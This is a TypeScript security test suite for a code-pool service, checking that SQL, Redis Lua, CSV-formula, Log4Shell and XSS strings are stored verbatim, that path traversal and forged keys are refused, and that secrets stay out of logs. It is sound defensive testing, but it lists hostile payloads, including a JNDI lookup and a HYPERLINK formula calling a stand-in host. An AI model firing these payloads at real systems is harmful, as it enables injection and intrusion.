/**
 * Security sweep of the service and the stores:
 * - injection-shaped strings (SQL, Lua/Redis key syntax, CSV formulas, control characters) in every
 *   free-text field are stored and returned verbatim on every store — never executed, never a 500;
 *   a CSV export neutralises formula cells;
 * - oversized bodies → 413 with the error shape, nothing written;
 * - path traversal against the only routes that read files (the dashboard) → 404;
 * - an API key with the right id and a wrong secret is refused like any wrong key;
 * - secrets (API keys, ticket tokens, store passwords) never reach the logs.
 */
import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { after, before, describe, it } from 'node:test';
import { openDibs, type Dibs } from '../../src/index.js';
import { redact } from '../../src/backends/registry.js';
import { errorOf, openTestService, type TestService } from '../support/service.js';
import { openTempPg, requirePostgres } from '../support/postgres.js';
import { deletePrefix, SHARED_REDIS, sharedRedisAvailable, testPrefix } from '../support/redis.js';
import { openTempSqlite } from '../support/sqlite.js';

/** Strings an attacker would try in any text field. */
const HOSTILE = [
  "alice'; DROP TABLE codes; --",
  "' OR '1'='1",
  'x" ; SELECT pg_sleep(5); --',
  "]] redis.call('FLUSHALL') [[",
  '{pool}:*',
  'dibs:pool:x:free',
  '=HYPERLINK("http://evil.example","click")',
  '+SUM(1+1)',
  '-2+3',
  '@cmd',
  'percent %s %n %x',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  'null',
  'ünïcødé 🎟️',
];

function storeSuite(
  label: string,
  open: () => Promise<{ dibs: Dibs; cleanup(): Promise<void> }>,
  skip: string | false = false,
) {
  describe(`${label}: hostile strings are data, never code`, { skip }, () => {
    let dibs: Dibs;
    let cleanup: () => Promise<void>;
    before(async () => {
      ({ dibs, cleanup } = await open());
    });
    after(async () => cleanup?.());

    it('claimants, idempotency keys and codes round-trip verbatim; the audit stays clean', async () => {
      await dibs.pools.create({ name: 'hostile', perClaimantLimit: 1 });
      const codes = HOSTILE.map((s, i) => `${s}#${i}`);
      const imported = await dibs.pools.importCodes('hostile', codes);
      assert.equal(imported.imported, codes.length);
      const given = new Map<string, string>();
      for (const [i, claimant] of HOSTILE.entries()) {
        const r = await dibs.pools.claim('hostile', claimant, { idempotencyKey: `${claimant}/key` });
        assert.equal(r.status, 'claimed');
        given.set(claimant, r.code!);
        // the same hostile key replays
        assert.equal((await dibs.pools.claim('hostile', claimant, { idempotencyKey: `${claimant}/key` })).code, r.code);
        assert.deepEqual(
          (await dibs.pools.holdings('hostile', claimant)).map((h) => h.code),
          [r.code],
          `holdings of #${i}`,
        );
      }
      assert.deepEqual(new Set(given.values()), new Set(codes), 'every hostile code was handed out exactly once');
      const stats = await dibs.pools.get('hostile');
      assert.equal(stats.stats.claimed, codes.length);
      assert.deepEqual(await dibs.pools.audit('hostile'), []);
      // control characters are refused at the edge (log forging, terminal escapes), not stored
      await assert.rejects(
        dibs.pools.claim('hostile', 'tab\there'),
        (e: { code?: string }) => e.code === 'invalid_input',
      );
      await assert.rejects(
        dibs.pools.claim('hostile', 'esc\u001b[31mred'),
        (e: { code?: string }) => e.code === 'invalid_input',
      );
      // the tables/keys an injection would have hit are all still there
      assert.equal(
        (await dibs.pools.list({ limit: 10 })).items.some((p) => p.name === 'hostile'),
        true,
      );
    });
  });
}

storeSuite('sqlite', openTempSqlite);
const pgSkip = await requirePostgres();
storeSuite('postgres', () => openTempPg(), pgSkip);
const redisSkip = (await sharedRedisAvailable()) ? false : 'redis on 127.0.0.1:6379 is not reachable';
storeSuite(
  'redis',
  async () => {
    const prefix = testPrefix();
    const dibs = await openDibs(`${SHARED_REDIS}?prefix=${prefix}`);
    return { dibs, cleanup: async () => (await dibs.close(), await deletePrefix(SHARED_REDIS, prefix)) };
  },
  redisSkip,
);

describe('service: hostile requests', () => {
  let svc: TestService;
  let admin: string;
  const logged: string[] = [];
  before(async () => {
    const stream = new Writable({ write: (chunk, _enc, done) => (logged.push(String(chunk)), done()) });
    svc = await openTestService({ logger: { level: 'trace', stream }, bodyLimit: 64 * 1024 });
    admin = await svc.key('default', ['admin']);
  });
  after(async () => svc?.close());

  it('stores hostile claimants verbatim over HTTP and exports formula cells neutralised', async () => {
    assert.equal((await svc.call(admin, 'POST', '/v1/pools', { name: 'web', perClaimantLimit: 1 })).statusCode, 201);
    const csv = `code\n${HOSTILE.map((_s, i) => `"${`CODE-${i}`}"`).join('\n')}\n`;
    const imported = await svc.app.inject({
      method: 'POST',
      url: '/v1/pools/web/codes',
      headers: { authorization: admin, 'content-type': 'text/csv' },
      payload: csv,
    });
    assert.equal(imported.statusCode, 200, imported.body);
    for (const claimant of HOSTILE) {
      const res = await svc.call(admin, 'POST', '/v1/pools/web/claims', { claimant });
      assert.equal(res.statusCode, 201, `${claimant}: ${res.body}`);
      assert.equal(res.json().claimant, claimant);
    }
    const exported = await svc.call(admin, 'GET', '/v1/pools/web/export');
    assert.equal(exported.statusCode, 200);
    for (const line of exported.body.split('\n').slice(1).filter(Boolean)) {
      // no cell of the export starts with a formula trigger, quoted or not
      for (const cell of line.split(','))
        assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, `formula cell in export: ${line}`);
    }
    assert.match(exported.body, /'=HYPERLINK/, 'the formula was kept, neutralised with a leading quote');
  });

  it('hostile pool names and path segments are 400/404, never 500', async () => {
    for (const name of ["x'; DROP TABLE pools; --", '../../etc/passwd', '{a}:*', 'a'.repeat(10_000), '']) {
      const created = await svc.call(admin, 'POST', '/v1/pools', { name });
      assert.equal(created.statusCode, 400, `${name.slice(0, 40)}: ${created.body}`);
      errorOf(created, 400);
      if (name === '') continue; // GET /v1/pools/ is the list
      const read = await svc.call(admin, 'GET', `/v1/pools/${encodeURIComponent(name)}`);
      assert.ok([400, 404].includes(read.statusCode), `${name.slice(0, 40)}: ${read.statusCode}`);
    }
  });

  it('an oversized body is 413 with the error shape, and nothing is written', async () => {
    const res = await svc.call(admin, 'POST', '/v1/pools', { name: 'big', metadata: 'x'.repeat(100 * 1024) });
    assert.equal(res.statusCode, 413, res.body);
    errorOf(res, 413);
    assert.equal((await svc.call(admin, 'GET', '/v1/pools/big')).statusCode, 404);
  });

  it('path traversal never reads a file outside the dashboard', async () => {
    for (const url of [
      '/dashboard/..%2f..%2fpackage.json',
      '/dashboard/%2e%2e%2fpackage.json',
      '/dashboard/../../package.json',
      '/dashboard/....//package.json',
      '/..%2fpackage.json',
      '/dashboard/app.js%00.html',
    ]) {
      const res = await svc.app.inject({ method: 'GET', url });
      assert.ok([400, 404].includes(res.statusCode), `${url}: ${res.statusCode}`);
      assert.doesNotMatch(res.body, /"dependencies"/, `${url} leaked package.json`);
    }
  });

  it('a key with a real id and a forged secret is refused like any wrong key', async () => {
    const real = admin.slice('Bearer '.length);
    const forged = real.slice(0, -4) + (real.endsWith('AAAA') ? 'BBBB' : 'AAAA');
    for (const auth of [
      `Bearer ${forged}`,
      `Bearer ${real}x`,
      `Bearer ${real.slice(0, -1)}`,
      'Bearer ',
      `Basic ${real}`,
    ]) {
      const res = await svc.call(auth, 'GET', '/v1/pools');
      assert.equal(res.statusCode, 401, `${auth.slice(0, 20)}…: ${res.statusCode}`);
      errorOf(res, 401);
    }
  });

  it('never logs API keys, ticket tokens or store passwords', async () => {
    const secret = admin.slice('Bearer '.length);
    await svc.call(admin, 'GET', '/v1/pools');
    await svc.call(`Bearer ${secret}x`, 'GET', '/v1/pools');
    await svc.call(admin, 'POST', '/v1/pools', { name: 'bad name!' });
    await svc.call(admin, 'GET', '/v1/sales/nope/waiting-room/tickets/c1', undefined, {
      'dibs-ticket': `1.${'s'.repeat(43)}`,
    });
    const text = logged.join('');
    assert.ok(text.length > 0, 'the service did log (at trace level)');
    assert.ok(!text.includes(secret), 'an API key is in the logs');
    assert.ok(!text.includes('s'.repeat(43)), 'a ticket token is in the logs');
    assert.equal(
      redact('postgres://dibs:hunter2@db.example:5432/app').includes('hunter2'),
      false,
      'store URLs are redacted before logging',
    );
  });
});
